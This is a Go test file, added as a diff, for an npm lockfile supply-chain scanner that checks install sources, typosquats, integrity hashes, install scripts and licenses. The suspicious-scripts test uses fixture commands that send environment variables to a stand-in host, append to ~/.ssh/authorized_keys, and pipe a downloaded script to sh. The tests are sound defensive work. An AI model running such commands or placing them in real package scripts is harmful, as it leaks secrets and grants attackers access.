@@ -0,0 +1,420 @@
+package scanner
+
+import (
+	"reflect"
+	"testing"
+
+	"scnpm/pkg/types"
+)
+
+func TestInstallSource(t *testing.T) {
+	tests := []struct {
+		resolved string
+		link     bool
+		want     string
+	}{
+		{"https://registry.npmjs.org/debug/-/debug-4.3.4.tgz", false, types.SourceRegistry},
+		{"https://registry.yarnpkg.com/@babel/core/-/core-7.0.0.tgz#abc", false, types.SourceRegistry},
+		{"", false, types.SourceRegistry},
+		{"debug@npm:4.3.4", false, types.SourceRegistry},
+		{"@babel/core@npm:7.0.0", false, types.SourceRegistry},
+		{"packages/lib", true, types.SourceLink},
+		{"file:../lib", false, types.SourceFile},
+		{"file:vendor/lib-1.0.0.tgz", false, types.SourceFile},
+		{"lib@file:../lib::locator=app%40workspace%3A.", false, types.SourceFile},
+		{"lib@workspace:packages/lib", false, types.SourceLink},
+		{"link:../lib", false, types.SourceLink},
+		{"git+ssh://git@github.com/acme/lib.git#0123abc", false, types.SourceGit},
+		{"git@github.com:acme/lib.git", false, types.SourceGit},
+		{"github:acme/lib", false, types.SourceGit},
+		{"https://example.com/lib-1.0.0.tgz", false, types.SourceRemoteTarball},
+		{"https://codeload.github.com/acme/lib/tar.gz/0123abc", false, types.SourceRemoteTarball},
+	}
+
+	for _, tt := range tests {
+		if got := InstallSource(tt.resolved, tt.link); got != tt.want {
+			t.Errorf("InstallSource(%q, %v) = %q, want %q", tt.resolved, tt.link, got, tt.want)
+		}
+	}
+}
+
+func TestInventory(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                   {Name: "app", Version: "1.0.0"},
+			"node_modules/debug":                 {Version: "4.3.4", Resolved: "https://registry.npmjs.org/debug/-/debug-4.3.4.tgz", Integrity: "sha512-abc", License: "MIT"},
+			"node_modules/debug/node_modules/ms": {Version: "2.1.2", Dev: true},
+		},
+		Lines: map[string]int{"node_modules/debug": 7},
+	}
+
+	inventory := Inventory(packageLock)
+	if len(inventory) != 2 {
+		t.Fatalf("Inventory() = %+v, want debug and ms without the root", inventory)
+	}
+	debug, ms := inventory[0], inventory[1]
+	if debug.Name != "debug" || debug.Integrity != "sha512-abc" || debug.License != "MIT" || debug.LineNumber != 7 || debug.InstallSource != types.SourceRegistry {
+		t.Errorf("debug = %+v, want its integrity, license, line and registry source", debug)
+	}
+	if ms.Name != "ms" || !ms.IsDev || !ms.IsNested || ms.Depth != 1 {
+		t.Errorf("ms = %+v, want a nested dev dependency", ms)
+	}
+}
+
+func TestList(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                   {Name: "app", Version: "1.0.0"},
+			"node_modules/debug":                 {Version: "4.3.4"},
+			"node_modules/debug/node_modules/ms": {Version: "2.1.2", Dev: true},
+			"node_modules/lodash-old":            {Name: "lodash", Version: "3.10.1"},
+		},
+	}
+
+	all := List(packageLock, FilterConfig{})
+	if len(all) != 3 || all[2].Name != "lodash" || all[2].Alias != "lodash-old" {
+		t.Fatalf("List() = %+v, want every installed package with aliases resolved", all)
+	}
+	if nested := List(packageLock, FilterConfig{ShowNestedOnly: true}); len(nested) != 1 || nested[0].Name != "ms" {
+		t.Errorf("List() nested only = %+v, want ms", nested)
+	}
+	if dev := List(packageLock, FilterConfig{ShowDevOnly: true}); len(dev) != 1 || dev[0].Name != "ms" {
+		t.Errorf("List() dev only = %+v, want ms", dev)
+	}
+	zero := 0
+	if direct := List(packageLock, FilterConfig{MaxDepth: &zero}); len(direct) != 2 {
+		t.Errorf("List() direct only = %+v, want debug and lodash", direct)
+	}
+}
+
+func TestNonRegistryPackages(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                   {Name: "app"},
+			"packages/lib":                       {Name: "lib", Version: "1.0.0"},
+			"node_modules/lib":                   {Resolved: "packages/lib", Link: true},
+			"node_modules/debug":                 {Version: "4.3.4", Resolved: "https://registry.npmjs.org/debug/-/debug-4.3.4.tgz"},
+			"node_modules/vendor":                {Version: "1.0.0", Resolved: "file:vendor/vendor-1.0.0.tgz"},
+			"node_modules/a/node_modules/vendor": {Version: "2.0.0", Resolved: "git+https://github.com/acme/vendor.git#abc"},
+		},
+	}
+
+	results := NonRegistryPackages(packageLock)
+	if len(results) != 2 || results[0].Package.Name != "lib" || results[1].Package.Name != "vendor" {
+		t.Fatalf("NonRegistryPackages() = %+v, want lib and vendor", results)
+	}
+	if results[0].Check != types.CheckInstallSource || results[0].Instances[0].InstallSource != types.SourceLink {
+		t.Errorf("lib result = %+v, want a link install-source finding", results[0])
+	}
+	if results[1].TotalInstances != 2 || results[1].Instances[0].InstallSource != types.SourceGit || results[1].Instances[1].InstallSource != types.SourceFile {
+		t.Errorf("vendor instances = %+v, want git then file, in path order", results[1].Instances)
+	}
+
+	v1 := &types.PackageLock{
+		LockfileVersion: 1,
+		Dependencies: map[string]types.Dependency{
+			"lib":   {Version: "file:../lib"},
+			"debug": {Version: "4.3.4", Resolved: "https://registry.npmjs.org/debug/-/debug-4.3.4.tgz"},
+		},
+	}
+	if results := NonRegistryPackages(v1); len(results) != 1 || results[0].Instances[0].InstallSource != types.SourceFile {
+		t.Errorf("NonRegistryPackages() v1 = %+v, want lib from a file: path", results)
+	}
+}
+
+func TestPinnedCommit(t *testing.T) {
+	sha := "0123456789abcdef0123456789abcdef01234567"
+	tests := []struct {
+		resolved string
+		want     string
+	}{
+		{"git+ssh://git@github.com/acme/vendor.git#" + sha, sha},
+		{"https://codeload.github.com/acme/vendor/tar.gz/" + sha, sha},
+		{"git+https://github.com/acme/vendor.git#main", ""},
+		{"git+https://github.com/acme/vendor.git#v1.0.0", ""},
+		{"https://example.com/vendor-1.0.0.tgz", ""},
+		{"git+https://github.com/acme/vendor.git#0123456", ""},
+	}
+
+	for _, tt := range tests {
+		if got := PinnedCommit(tt.resolved); got != tt.want {
+			t.Errorf("PinnedCommit(%q) = %q, want %q", tt.resolved, got, tt.want)
+		}
+	}
+}
+
+func TestNonRegistry(t *testing.T) {
+	sha := "0123456789abcdef0123456789abcdef01234567"
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                   {Name: "app", Dependencies: map[string]string{"a": "^1.0.0", "vendor": "github:acme/vendor"}},
+			"node_modules/a":                     {Version: "1.0.0", Dependencies: map[string]string{"vendor": "^2.0.0", "tarball": "https://example.com/t.tgz"}},
+			"node_modules/a/node_modules/vendor": {Version: "2.0.0", Resolved: "git+https://github.com/acme/vendor.git#" + sha},
+			"node_modules/vendor":                {Version: "1.0.0", Resolved: "git+ssh://git@github.com/acme/vendor.git#main"},
+			"node_modules/tarball":               {Version: "1.0.0", Resolved: "https://example.com/t.tgz"},
+			"node_modules/local":                 {Version: "1.0.0", Resolved: "file:local"},
+			"node_modules/debug":                 {Version: "4.3.4", Resolved: "https://registry.npmjs.org/debug/-/debug-4.3.4.tgz"},
+		},
+	}
+
+	results := NonRegistry(packageLock)
+	if len(results) != 2 || results[0].Package.Name != "tarball" || results[1].Package.Name != "vendor" {
+		t.Fatalf("NonRegistry() = %+v, want tarball and vendor", results)
+	}
+	if tarball := results[0].Instances[0]; tarball.InstallSource != types.SourceRemoteTarball || !reflect.DeepEqual(tarball.DependedOnBy, []string{"a"}) {
+		t.Errorf("tarball = %+v, want a remote tarball required by a", tarball)
+	}
+
+	vendor := results[1].Instances
+	if vendor[0].Path != "node_modules/a/node_modules/vendor" || vendor[0].PinnedCommit != sha || !reflect.DeepEqual(vendor[0].DependedOnBy, []string{"a"}) {
+		t.Errorf("nested vendor = %+v, want pinned and required by a", vendor[0])
+	}
+	if vendor[1].PinnedCommit != "" || !reflect.DeepEqual(vendor[1].DependedOnBy, []string{"app"}) {
+		t.Errorf("top-level vendor = %+v, want unpinned and required by app", vendor[1])
+	}
+
+	found := ScanPackages(packageLock, []types.PackageQuery{{Name: "vendor"}}, FilterConfig{})
+	for _, instance := range found[0].Instances {
+		if !instance.IsReference && (instance.InstallSource != types.SourceGit || instance.Resolved == "") {
+			t.Errorf("instance %+v, want the git source and URL so the finding can be escalated", instance)
+		}
+	}
+
+	v1 := &types.PackageLock{
+		LockfileVersion: 1,
+		Dependencies: map[string]types.Dependency{
+			"a":      {Version: "1.0.0", Requires: map[string]string{"vendor": "github:acme/vendor"}},
+			"vendor": {Version: "git+https://github.com/acme/vendor.git#" + sha},
+		},
+	}
+	if results := NonRegistry(v1); len(results) != 1 || results[0].Instances[0].PinnedCommit != sha || !reflect.DeepEqual(results[0].Instances[0].DependedOnBy, []string{"a"}) {
+		t.Errorf("NonRegistry() v1 = %+v, want vendor pinned and required by a", results)
+	}
+}
+
+func TestTyposquats(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"node_modules/lodash":                {Version: "4.17.21"},
+			"node_modules/lodahs":                {Version: "1.0.0"},
+			"node_modules/a/node_modules/lodahs": {Version: "1.0.1"},
+			"node_modules/crossenv":              {Version: "6.1.1", Dev: true},
+			"node_modules/my-internal-helpers":   {Version: "2.0.0"},
+			"node_modules/@babel/core":           {Version: "7.24.0"},
+			"node_modules/@acme/utils":           {Version: "1.0.0"},
+		},
+	}
+
+	results := Typosquats(packageLock, 1)
+	if len(results) != 2 || results[0].Package.Name != "crossenv" || results[1].Package.Name != "lodahs" {
+		t.Fatalf("Typosquats() = %+v, want crossenv and lodahs", results)
+	}
+	if instance := results[0].Instances[0]; results[0].Check != types.CheckTyposquat || instance.Resembles != "cross-env" || instance.Distance != 1 || !instance.IsDev {
+		t.Errorf("crossenv = %+v, want a dev typosquat of cross-env at distance 1", results[0])
+	}
+	if results[1].TotalInstances != 2 {
+		t.Errorf("lodahs instances = %+v, want both installs", results[1].Instances)
+	}
+}
+
+func TestNearMatches(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"node_modules/evnet-stream":   {Version: "3.3.6"},
+			"node_modules/event-stream":   {Version: "4.0.1"},
+			"node_modules/@ctrl/tinycolr": {Version: "4.1.1"},
+			"node_modules/ctrl-tinycolor": {Version: "1.0.0"},
+			"node_modules/flat-mapp":      {Version: "1.0.0"},
+			"node_modules/cross-env":      {Version: "7.0.3"},
+			"node_modules/unrelated":      {Version: "1.0.0"},
+		},
+	}
+	queries := []types.PackageQuery{
+		{Name: "event-stream", Version: "3.3.6"},
+		{Name: "@ctrl/tinycolor", Version: "4.1.1"},
+		{Name: "flatmap-stream", Version: "0.1.1"},
+		{Name: "crossenv"},
+		{Name: "@ctrl/*"},
+	}
+
+	results := NearMatches(packageLock, queries, FilterConfig{})
+	got := make(map[string]string)
+	for _, result := range results {
+		if result.Check != types.CheckNearMatch {
+			t.Errorf("result %+v, want a near-match check", result)
+		}
+		got[result.Package.Name] = result.Instances[0].Resembles
+	}
+	want := map[string]string{
+		"evnet-stream":   "event-stream",
+		"@ctrl/tinycolr": "@ctrl/tinycolor",
+		"ctrl-tinycolor": "@ctrl/tinycolor",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("NearMatches() = %v, want %v", got, want)
+	}
+
+	// Names that match through --fuzzy are findings, not near misses
+	query := []types.PackageQuery{{Name: "flat-map"}}
+	if results := NearMatches(packageLock, query, FilterConfig{}); len(results) != 1 || results[0].Package.Name != "flat-mapp" {
+		t.Errorf("NearMatches() = %+v, want flat-mapp", results)
+	}
+	if results := NearMatches(packageLock, query, FilterConfig{Fuzzy: true}); len(results) != 0 {
+		t.Errorf("NearMatches() with --fuzzy = %+v, want none", results)
+	}
+}
+
+func TestMissingIntegrity(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                     {Name: "app"},
+			"packages/lib":                         {Name: "lib", Version: "1.0.0"},
+			"node_modules/lib":                     {Resolved: "packages/lib", Link: true},
+			"node_modules/debug":                   {Version: "4.3.4", Integrity: "sha512-abc"},
+			"node_modules/left-pad":                {Version: "1.3.0", Resolved: "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"},
+			"node_modules/a/node_modules/left-pad": {Version: "1.2.0"},
+			"node_modules/a/node_modules/bundled":  {Version: "1.0.0", InBundle: true},
+			"node_modules/fork":                    {Version: "1.0.0", Resolved: "git+https://github.com/acme/fork.git#abc"},
+		},
+	}
+
+	results := MissingIntegrity(packageLock)
+	if len(results) != 2 || results[0].Package.Name != "fork" || results[1].Package.Name != "left-pad" {
+		t.Fatalf("MissingIntegrity() = %+v, want fork and left-pad", results)
+	}
+	var paths []string
+	for _, instance := range results[1].Instances {
+		paths = append(paths, instance.Path)
+	}
+	if want := []string{"node_modules/a/node_modules/left-pad", "node_modules/left-pad"}; !reflect.DeepEqual(paths, want) {
+		t.Errorf("left-pad paths = %v, want %v", paths, want)
+	}
+	if results[0].Check != types.CheckMissingIntegrity || results[0].Instances[0].InstallSource != types.SourceGit {
+		t.Errorf("fork = %+v, want a missing-integrity finding from git", results[0])
+	}
+}
+
+func TestWeakIntegrity(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"node_modules/old":    {Version: "1.0.0", Integrity: "sha1-3Hm2yYkkjrAG1MVYcsUBAjHyH0o="},
+			"node_modules/mixed":  {Version: "1.0.0", Integrity: "sha512-abc sha1-def"},
+			"node_modules/middle": {Version: "1.0.0", Integrity: "sha256-abc"},
+			"node_modules/none":   {Version: "1.0.0"},
+			"node_modules/berry":  {Version: "1.0.0", Integrity: "10c0/3dbad3f94ea6"},
+		},
+	}
+
+	tests := []struct {
+		minAlgorithm string
+		want         []string
+	}{
+		{minAlgorithm: "sha512", want: []string{"middle", "old"}},
+		{minAlgorithm: "sha256", want: []string{"old"}},
+		{minAlgorithm: "sha1", want: nil},
+	}
+
+	for _, tt := range tests {
+		var got []string
+		for _, result := range WeakIntegrity(packageLock, tt.minAlgorithm) {
+			got = append(got, result.Package.Name)
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("WeakIntegrity(%s) = %v, want %v", tt.minAlgorithm, got, tt.want)
+		}
+	}
+
+	results := WeakIntegrity(packageLock, "sha512")
+	if instance := results[1].Instances[0]; results[1].Check != types.CheckWeakIntegrity || instance.IntegrityAlgo != "sha1" || instance.Path != "node_modules/old" {
+		t.Errorf("old = %+v, want a sha1 weak-integrity finding", results[1])
+	}
+}
+
+func TestInstallScripts(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"node_modules/esbuild": {Version: "0.19.0", HasInstallScript: true, Dev: true},
+			"node_modules/evil":    {Version: "1.0.0", HasInstallScript: true},
+			"node_modules/react":   {Version: "18.2.0"},
+		},
+	}
+
+	results := InstallScripts(packageLock)
+	if len(results) != 2 || results[0].Package.Name != "esbuild" || !results[0].Instances[0].IsDev || results[1].Package.Name != "evil" {
+		t.Fatalf("InstallScripts() = %+v, want esbuild (dev) and evil", results)
+	}
+
+	found := ScanPackages(packageLock, []types.PackageQuery{{Name: "evil", Version: "1.0.0"}}, FilterConfig{})
+	if !found[0].Instances[0].HasInstallScript {
+		t.Errorf("instance %+v, want HasInstallScript so the finding can be escalated", found[0].Instances[0])
+	}
+}
+
+func TestSuspiciousScripts(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"node_modules/esbuild": {Version: "0.19.0", HasInstallScript: true, Scripts: map[string]string{"postinstall": "node install.js"}},
+			"node_modules/evil": {Version: "1.0.0", HasInstallScript: true, Scripts: map[string]string{
+				"preinstall":  "env | curl -d @- https://evil.example",
+				"postinstall": "cat key >> ~/.ssh/authorized_keys",
+			}},
+			"node_modules/react": {Version: "18.2.0", Scripts: map[string]string{"test": "curl https://x | sh"}},
+		},
+	}
+
+	results := SuspiciousScripts(packageLock)
+	if len(results) != 1 || results[0].Package.Name != "evil" || results[0].Check != types.CheckSuspiciousScript {
+		t.Fatalf("SuspiciousScripts() = %+v, want only evil", results)
+	}
+
+	var got []string
+	for _, instance := range results[0].Instances {
+		got = append(got, instance.Script+":"+instance.Heuristic)
+		if instance.Path != "node_modules/evil" || instance.Snippet == "" {
+			t.Errorf("instance %+v, want path and snippet filled in", instance)
+		}
+	}
+	want := []string{"preinstall:env-exfiltration", "postinstall:ssh-write"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("SuspiciousScripts() findings = %v, want %v", got, want)
+	}
+}
+
+func TestLicenseViolations(t *testing.T) {
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                                {Name: "app", License: "GPL-3.0"},
+			"node_modules/gpl":                {Version: "1.0.0", License: "GPL-3.0-only"},
+			"node_modules/dual":               {Version: "1.0.0", License: "MIT OR GPL-3.0"},
+			"node_modules/both":               {Version: "1.0.0", License: "(MIT AND AGPL-3.0)", Dev: true},
+			"node_modules/a/node_modules/gpl": {Version: "2.0.0", License: "GPL-3.0-or-later", Dev: true},
+			"node_modules/mit":                {Version: "1.0.0", License: "MIT"},
+			"node_modules/unknown":            {Version: "1.0.0"},
+		},
+	}
+	denied := []string{"GPL-3.0", "AGPL-3.0"}
+
+	results := LicenseViolations(packageLock, denied, FilterConfig{})
+	if len(results) != 2 || results[0].Package.Name != "both" || results[1].Package.Name != "gpl" || results[1].TotalInstances != 2 {
+		t.Fatalf("LicenseViolations() = %+v, want both and two instances of gpl", results)
+	}
+	if results[0].Check != types.CheckLicense || results[0].Instances[0].License != "(MIT AND AGPL-3.0)" {
+		t.Errorf("both = %+v, want a license finding with the expression", results[0])
+	}
+
+	results = LicenseViolations(packageLock, denied, FilterConfig{ShowDevOnly: true, ShowNestedOnly: true})
+	if len(results) != 1 || results[0].TotalInstances != 1 || results[0].Instances[0].Path != "node_modules/a/node_modules/gpl" {
+		t.Errorf("LicenseViolations() with filters = %+v, want only the nested dev gpl", results)
+	}
+}